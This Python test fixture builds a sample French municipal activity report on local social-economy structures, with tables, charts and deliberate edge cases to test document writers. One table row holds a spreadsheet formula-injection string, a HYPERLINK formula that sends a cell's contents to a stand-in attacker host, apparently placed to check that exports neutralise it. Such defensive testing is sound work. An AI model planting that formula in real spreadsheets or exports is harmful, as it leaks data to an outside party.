"""One sample report exercising every trap the writers must survive."""

from __future__ import annotations

import datetime as dt

from municipaless.documents.model import (
    BulletList,
    Chart,
    Column,
    Document,
    Heading,
    KeyFigure,
    KeyFigures,
    Meta,
    PageBreak,
    Paragraph,
    Run,
    Section,
    Series,
    Table,
)

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez ici")'
PHONE = "+33 6 12 34 56 78"
SIRET = "73282932000074"
POSTCODE = "01000"
TITLE = "Bilan d'activité ESS — Cœur de ville"
SECTORS = ["Alimentation durable", "Mobilités inclusives", "Économie circulaire", "Culture"]


def _structures() -> Table:
    rows = [
        ["La Ruche œuvrière", SIRET, POSTCODE, "2024-03-05", 1_250_000, 12, 0.42],
        [INJECTION, "44306184100047", "75011", "2024-04-18", 300_050, 3, 0.125],
        [PHONE, "", "97400", None, None, None, None],
    ]
    for i in range(447):
        rows.append(
            [
                f"Structure n° {i + 1} « {SECTORS[i % 4]} »",
                f"{i:014d}",
                f"{(i * 37) % 95 + 1:02d}{i % 1000:03d}",
                (dt.date(2024, 1, 1) + dt.timedelta(days=i % 360)).isoformat(),
                (i * 7919) % 5_000_000,
                i % 40,
                (i % 100) / 100,
            ]
        )
    columns = [
        Column("Structure", "text"),
        Column("SIRET", "code"),
        Column("Code postal", "code"),
        Column("Premier accueil", "date"),
        Column("Financements obtenus", "money"),
        Column("Emplois", "count"),
        Column("Part féminine", "percent"),
    ]
    total = sum(r[4] or 0 for r in rows)
    totals = ["Total", None, None, None, total, sum(r[5] or 0 for r in rows), None]
    return Table(
        "Structures accompagnées",
        columns,
        rows,
        totals,
        note="Source : suivi des porteurs, effectifs déclarés.",
        name="Structures",
    )


def sample_document() -> Document:
    chart = Chart(
        "bar",
        "Projets accueillis par filière",
        SECTORS,
        [Series("2024", [14, 9, 21, 5])],
    )
    stacked = Chart(
        "stacked_bar",
        "Financements par filière et financeur",
        SECTORS,
        [
            Series("France Active", [1_250_000, 300_000, 800_000, 150_000]),
            Series("Région", [500_000, 900_000, 200_000, 0]),
        ],
        value_kind="money",
    )
    small = Table(
        "Financements par filière",
        [Column("Filière"), Column("Montant", "money"), Column("Dossiers", "count")],
        [[s, 1_250_000 if i == 0 else 100_000 * i, i + 1] for i, s in enumerate(SECTORS)],
        ["Total", 1_850_000, 10],
        name="Financements",
    )
    intro = Section(
        [
            Heading("Synthèse de l'année", 1),
            KeyFigures(
                [
                    KeyFigure("Porteurs accueillis", 1234, "count"),
                    KeyFigure("Financements obtenus", 1_250_000, "money"),
                    KeyFigure("Taux de création", 0.42, "percent"),
                    KeyFigure("Dernier comité", "2024-11-28", "date"),
                ]
            ),
            Paragraph(
                "Le pôle a accompagné ",
                Run("1 234 porteurs", bold=True),
                " en 2024, dont une ",
                Run("majorité", italic=True),
                " de projets d'œuvres collectives <associatives> & coopératives.",
            ),
            BulletList(["Coopérative « Œuf & Cie »", "Tiers-lieu de l'Île-Barbe"]),
            Heading("Répartition par filière", 2),
            chart,
            small,
            stacked,
            PageBreak(),
            Heading("Détail", 3),
            Paragraph("Le total des financements est de 12 500 € pour La Ruche."),
        ]
    )
    detail = Section([Heading("Structures accompagnées", 1), _structures()], "landscape")
    return Document(
        TITLE,
        "Rapport au conseil municipal",
        Meta("Bourg-en-Bresse", "année 2024", dt.date(2025, 1, 15), "toutes filières, anonymisé"),
        [intro, detail],
    )
